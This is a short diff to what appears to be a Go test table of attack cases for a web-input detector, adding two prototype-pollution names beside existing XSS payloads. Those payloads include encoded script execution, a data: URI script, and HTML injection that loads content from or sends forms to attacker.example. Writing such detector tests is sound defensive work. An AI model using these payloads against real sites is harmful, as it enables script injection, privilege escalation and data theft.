@@ -50,6 +50,8 @@ var attackCases = []attackCase{
 	{KindQueryValue, "cb", "eval(atob('YWxlcnQoMSk='))", "xss-js-sink"},
 	{KindBodyValue, "data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss-js-uri"},
 	{KindBodyName, "", "__proto__[isAdmin]", "xss-prototype-pollution"},
+	{KindQueryName, "", "a[constructor][prototype][onerror]", "xss-prototype-pollution"},
+	{KindBodyName, "", `x["constructor"]["prototype"]`, "xss-prototype-pollution"},
 	{KindBodyValue, "bio", "<base href=\"//attacker.example/\">", "xss-html-injection"},
 	{KindBodyValue, "bio", "<style>@import 'https://attacker.example/x.css';</style>", "xss-html-injection"},
 	{KindBodyValue, "bio", "<button formaction=\"https://attacker.example\">go</button>", "xss-html-injection"},
